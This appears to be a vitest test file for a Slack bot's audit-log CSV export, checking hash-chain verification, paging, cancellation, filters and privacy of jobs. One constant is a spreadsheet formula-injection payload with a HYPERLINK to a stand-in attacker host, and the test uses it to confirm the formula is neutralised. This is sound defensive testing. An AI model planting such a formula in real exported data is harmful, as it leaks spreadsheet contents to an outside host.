/** `/edge audit --export`: the period's rows as a CSV by DM, streamed in pages, the chain checked first. */
import type { Client } from '@libsql/client';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_LIMITS } from '../../src/operations/audit-export.js';
import type { Reply, ReplyFile } from '../../src/reply/model.js';
import { type AuditLog, type AuditRow, createAuditLog } from '../../src/state/audit.js';
import {
  answers,
  buttonsOf,
  dmsIn,
  type EngineTestbed,
  fileText,
  onlyAnswer,
  type Recorded,
  startEngineTestbed,
  wordsOf,
} from '../support/engine.js';

let bed: EngineTestbed;
let original: AuditLog;
beforeAll(async () => {
  bed = await startEngineTestbed();
  original = bed.runtime.services.audit;
});
afterEach(() => {
  bed.runtime.services.audit = original;
});
afterAll(async () => {
  await bed?.close();
});

const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")';

/** The exported file of a run: sent by DM to the requester, alone. */
function exportedFile(records: readonly Recorded[], userId = 'U0YOU'): ReplyFile {
  const dms = dmsIn(records, userId);
  expect(dms).toHaveLength(1);
  const files = dms[0]!.reply.files ?? [];
  expect(files).toHaveLength(1);
  return files[0]!;
}

/** The CSV's records (RFC 4180, quoted cells with CRLF inside them kept whole). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

const append = (audit: AuditLog, userId: string, operation: string, extra: Partial<AuditRow> = {}) =>
  audit.append({
    userId,
    channelId: 'C0OPS',
    operation,
    target: '308006',
    params: { reason: 'rotated' },
    outcome: 'succeeded',
    approvalId: null,
    correlationId: `c-${userId}-${operation}`,
    ...extra,
  });

describe('/edge audit --export', () => {
  it('sends every column of the period’s rows, hashes included, by DM, formulas neutralised', async () => {
    const row = await append(bed.runtime.services.audit, 'U0EVE', 'pullzone.reset-key', {
      params: { reason: HOSTILE },
      detail: HOSTILE,
    });
    const records = await bed.run('audit --export');
    const file = exportedFile(records);
    expect(file.filename).toMatch(/^audit-export-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.csv$/);
    const rows = csvRows(fileText(file));
    expect(rows[0]).toEqual([
      'id',
      'time',
      'user_id',
      'channel_id',
      'operation',
      'target',
      'params',
      'outcome',
      'approval_id',
      'correlation_id',
      'detail',
      'prev_hash',
      'hash',
    ]);
    const stored = await bed.runtime.services.audit.list({ limit: 1000 });
    // Every stored row up to the export's own start is there, in id order, with its hashes.
    const exportedIds = rows.slice(1).map((cells) => Number(cells[0]));
    expect(exportedIds).toEqual(
      stored
        .map((each) => each.id)
        .filter((id) => id <= Math.max(...exportedIds))
        .reverse(),
    );
    const line = rows.find((cells) => cells[0] === String(row.id))!;
    expect(line).toEqual([
      String(row.id),
      row.time,
      'U0EVE',
      'C0OPS',
      'pullzone.reset-key',
      '308006',
      JSON.stringify({ reason: HOSTILE }),
      'succeeded',
      '',
      'c-U0EVE-pullzone.reset-key',
      `'${HOSTILE}`,
      row.prevHash,
      row.hash,
    ]);
    expect(fileText(file)).not.toMatch(/(^|,)=HYPERLINK/m);
    expect(file.comment).toMatch(/^Hash chain verified over the period: \d+ rows, no link broken\./);
    expect(file.comment).toContain(`${rows.length - 1} rows exported`);
    // The channel is told where it went, and sees no file.
    const [told] = answers(records).filter((reply) => reply.visibility === 'ephemeral');
    expect(wordsOf(told!)).toContain('went to you by direct message');
    expect(told!.files ?? []).toEqual([]);
  });

  it('shows its progress to the requester alone, in their direct messages, and nothing in the channel', async () => {
    // The export holds its first page until its progress message is up, wherever that went.
    const held = holdingExports(bed, 'shown');
    try {
      await append(original, 'U0EVE', 'dns.list');
      const records = await bed.run('audit --export --since 1h', { channelId: 'C0OPS' });
      expect(records.filter((record) => record.kind === 'post')).toEqual([]);
      const progressDms = dmsIn(records, 'U0YOU').filter((dm) => !dm.reply.files?.length);
      expect(progressDms.length).toBeGreaterThan(0);
      expect(JSON.stringify(progressDms[0]!.reply.blocks)).toContain('audit:cancel');
      exportedFile(records.filter((record) => !progressDms.includes(record as (typeof progressDms)[number])));
      expect(wordsOf(onlyAnswer(records))).toContain('went to you by direct message');
    } finally {
      held.restore();
    }
  });

  it('asked in a direct message, sends just the file', async () => {
    const records = await bed.run('audit --export --since 1h', { channelId: 'DU0YOU' });
    exportedFile(records);
    expect(records.filter((record) => record.kind !== 'dm')).toEqual([]);
  });

  it('filters by users (repeated, ids or mentions), operation and period, after checking the whole period', async () => {
    const start = bed.clock();
    await append(bed.runtime.services.audit, 'U0OLD', 'dns.list');
    bed.clock.set(start + 3 * 3_600_000);
    await append(bed.runtime.services.audit, 'U0ANN', 'dns.list');
    await append(bed.runtime.services.audit, 'U0BEA', 'dns.list');
    await append(bed.runtime.services.audit, 'U0BEA', 'apikey.list');
    await append(bed.runtime.services.audit, 'U0CAL', 'dns.list');
    const records = await bed.run('audit --export --since 2h --user U0ANN --user <@U0BEA|bea> --op dns.list');
    const file = exportedFile(records);
    const rows = csvRows(fileText(file)).slice(1);
    expect(rows.map((cells) => [cells[2], cells[4]])).toEqual([
      ['U0ANN', 'dns.list'],
      ['U0BEA', 'dns.list'],
    ]);
    // Verified over every row of the period (the four appended and this export's own started row).
    expect(file.comment).toMatch(
      /^Hash chain verified over the period: 5 rows, no link broken\. 2 rows exported, /,
    );
    expect(file.comment).toContain('only users U0ANN, U0BEA and operation dns.list');
  });

  it('reads the period a page at a time and never hands on more than a page', async () => {
    const state = bed.runtime.services.state;
    const pageReads: number[] = [];
    const client = {
      execute: async (statement: { sql: string; args: unknown[] } | string) => {
        const result = await state.client.execute(statement as Parameters<Client['execute']>[0]);
        const sql = typeof statement === 'string' ? statement : statement.sql;
        if (/SELECT id, time, user_id/.test(sql) && /id > \?/.test(sql)) pageReads.push(result.rows.length);
        return result;
      },
      batch: (...args: Parameters<Client['batch']>) => state.client.batch(...args),
    } as unknown as Client;
    const counted = createAuditLog({
      store: { ...state, client },
      secrets: bed.runtime.services.secrets,
      verifyPageRows: 10,
    });
    const handedOn: number[] = [];
    const exportRows = counted.exportRows;
    counted.exportRows = (request) =>
      exportRows({
        ...request,
        write: (rows) => {
          handedOn.push(rows.length);
          return request.write(rows);
        },
      });
    bed.clock.set(bed.clock() + 24 * 3_600_000);
    for (let i = 0; i < 44; i++) await append(counted, 'U0PAGE', 'dns.list');
    bed.runtime.services.audit = counted;
    const records = await bed.run('audit --export --since 1h');
    // The row before the period, its 44 rows and the export's own started row: 46 rows, 5 pages.
    expect(pageReads).toEqual([10, 10, 10, 10, 6]);
    expect(Math.max(...handedOn)).toBeLessThanOrEqual(10);
    expect(handedOn.reduce((sum, n) => sum + n, 0)).toBe(45);
    expect(csvRows(fileText(exportedFile(records)))).toHaveLength(46);
  });

  it('stops between pages when cancelled, even while no page has rows to write', async () => {
    const state = bed.runtime.services.state;
    const cancel = new AbortController();
    let pagesRead = 0;
    const client = {
      execute: async (statement: { sql: string; args: unknown[] } | string) => {
        const result = await state.client.execute(statement as Parameters<Client['execute']>[0]);
        const sql = typeof statement === 'string' ? statement : statement.sql;
        // Cancel is clicked while the second page is read.
        if (/SELECT id, time, user_id/.test(sql) && /id > \?/.test(sql) && ++pagesRead === 2) cancel.abort();
        return result;
      },
      batch: (...args: Parameters<Client['batch']>) => state.client.batch(...args),
    } as unknown as Client;
    const paged = createAuditLog({
      store: { ...state, client },
      secrets: bed.runtime.services.secrets,
      verifyPageRows: 10,
    });
    for (let i = 0; i < 44; i++) await append(paged, 'U0WALK', 'dns.list');
    const written: number[] = [];
    const exporting = paged.exportRows({
      since: new Date(bed.clock() - 3_600_000).toISOString(),
      operation: 'nothing.matches',
      signal: cancel.signal,
      write: async (rows) => {
        written.push(rows.length);
      },
    });
    await expect(exporting).rejects.toThrow();
    expect(pagesRead).toBe(2);
    expect(written).toEqual([]);
  });

  it('refuses a period past the bound, saying how to narrow it', async () => {
    const rows = EXPORT_LIMITS.rows;
    EXPORT_LIMITS.rows = 3;
    try {
      const records = await bed.run('audit --export --since 30d');
      expect(dmsIn(records)).toEqual([]);
      const said = wordsOf(onlyAnswer(records));
      expect(said).toContain('An audit export holds at most 3 rows');
      expect(said).toContain('--since 7d');
      expect(said).toContain('--user MEMBER_ID or --op OPERATION');
    } finally {
      EXPORT_LIMITS.rows = rows;
    }
  });

  it.each([
    ['audit --export --since 3x', '--since 30d or --since 12h'],
    ['audit --export --since 2099-01-01T00:00:00Z', '--since is in the future'],
    ['audit --export --user @ann', '--user takes a Slack member id'],
    ['audit --export --op dns.lst', 'did you mean --op dns.list'],
    ['audit --export --op logs.x', '--op logs.origin'],
    ['audit --export --limit 5', '--export does not take --limit: type /edge audit --export [--since 30d]'],
  ])('%s says what to type instead', async (command, said) => {
    const records = await bed.run(command);
    expect(dmsIn(records)).toEqual([]);
    expect(wordsOf(onlyAnswer(records))).toContain(said);
  });
});

describe('/edge audit --export of a tampered chain', () => {
  let tampered: EngineTestbed;
  beforeAll(async () => {
    tampered = await startEngineTestbed();
  });
  afterAll(async () => {
    await tampered?.close();
  });

  it('still exports it, and the comment says so in its first words', async () => {
    const audit = tampered.runtime.services.audit;
    for (const user of ['U0A', 'U0B', 'U0C']) await append(audit, user, 'dns.list');
    const { client } = tampered.runtime.services.state;
    const victim = (await audit.list({ limit: 10 })).find((row) => row.userId === 'U0B')!;
    await client.execute('DROP TRIGGER audit_log_no_update');
    await client.execute({ sql: "UPDATE audit_log SET outcome = 'denied' WHERE id = ?", args: [victim.id] });
    const records = await tampered.run('audit --export --user U0B');
    const file = exportedFile(records);
    expect(file.comment).toMatch(
      new RegExp(
        `^Hash chain BROKEN at row ${victim.id}: hash does not match the row: the row was changed\\.`,
      ),
    );
    const rows = csvRows(fileText(file)).slice(1);
    expect(rows.map((cells) => [cells[0], cells[7]])).toEqual([[String(victim.id), 'denied']]);
    expect(wordsOf(answers(records).find((reply) => reply.visibility === 'ephemeral')!)).toContain(
      'The hash chain is broken',
    );
  });
});

/**
 * Holds a testbed's audit exports at their first page until they are cancelled (or, `until`
 * 'shown', until their progress message is up), their progress shown at once: `progress`
 * resolves with the first progress message; `restore()` undoes it.
 */
function holdingExports(testbed: EngineTestbed, until: 'cancelled' | 'shown' = 'cancelled') {
  const { progress: timing } = testbed.runtime.services.jobs;
  const before = { ...timing };
  timing.delayMs = 0;
  const audit = testbed.runtime.services.audit;
  let shown!: (reply: Reply) => void;
  const progress = new Promise<Reply>((resolve) => {
    shown = resolve;
  });
  const { show } = testbed.board;
  testbed.board.show = (ref, reply) => {
    show(ref, reply);
    if (reply.text.startsWith('Audit export:') && !reply.files?.length) shown(reply);
  };
  testbed.runtime.services.audit = {
    ...audit,
    exportRows: (options) =>
      audit.exportRows({
        ...options,
        write: async (page) => {
          if (until === 'shown') await progress;
          else
            await new Promise<void>((resolve) => {
              if (options.signal?.aborted) resolve();
              options.signal?.addEventListener('abort', () => resolve(), { once: true });
            });
          await options.write(page);
        },
      }),
  };
  return {
    progress,
    restore() {
      Object.assign(timing, before);
      testbed.board.show = show;
      testbed.runtime.services.audit = audit;
    },
  };
}

describe('/edge audit --export where the policy grants it in one channel only', () => {
  it('is cancelled by its requester with the Cancel of its progress message in their DM, and by no one else', async () => {
    const limited = await startEngineTestbed({
      policyYaml:
        'roles:\n  everyone: ["*"]\ngrants:\n  - ops: [audit.list]\n    roles: [everyone]\n    channels: [C0OPS]\n',
    });
    const held = holdingExports(limited);
    try {
      await append(limited.runtime.services.audit, 'U0EVE', 'dns.list');
      const running = limited.run('audit --export --since 1h', { channelId: 'C0OPS' });
      const cancel = buttonsOf(await held.progress).find((button) => button.text === 'Cancel')!;
      expect(cancel.actionId).toBe('audit:cancel');
      const other = await limited.click(cancel, { channelId: 'DU0EVE', userId: 'U0EVE' });
      expect(wordsOf(onlyAnswer(other))).toContain('Only the person who started that job can cancel it');
      expect(wordsOf(onlyAnswer(other))).not.toContain('U0YOU');
      const refusedRow = (await limited.runtime.services.audit.list({ limit: 20 })).find(
        (row) => row.userId === 'U0EVE' && row.operation === 'audit.list' && row.outcome !== 'started',
      );
      expect(refusedRow?.outcome).toBe('refused');
      const mine = await limited.click(cancel, { channelId: 'DU0YOU' });
      expect(wordsOf(onlyAnswer(mine))).toContain('Cancelling');
      const records = await running;
      expect(wordsOf(onlyAnswer(records))).toContain('was cancelled');
      expect(dmsIn(records, 'U0YOU').filter((dm) => dm.reply.files?.length)).toEqual([]);
    } finally {
      held.restore();
      await limited.close();
    }
  });

  it('is named to no one else when the cap on long jobs refuses them: theirs is "a private job"', async () => {
    const capped = await startEngineTestbed({ env: { EDGEOPS_MAX_JOBS: '1' } });
    const held = holdingExports(capped);
    try {
      await append(capped.runtime.services.audit, 'U0EVE', 'dns.list');
      const running = capped.run('audit --export --since 1h', { userId: 'U0EVE', channelId: 'C0OPS' });
      await held.progress;
      const refused = wordsOf(
        onlyAnswer(await capped.run('audit --export --since 1h', { channelId: 'C0OPS' })),
      );
      expect(refused).toContain('The bot is already running 1 long jobs');
      expect(refused).toContain('A private job');
      expect(refused).not.toContain('Audit export');
      expect(refused).not.toContain('U0EVE');
      for (const job of capped.runtime.services.jobs.running()) job.controller.abort(new Error('test over'));
      await running;
    } finally {
      held.restore();
      await capped.close();
    }
  });
});
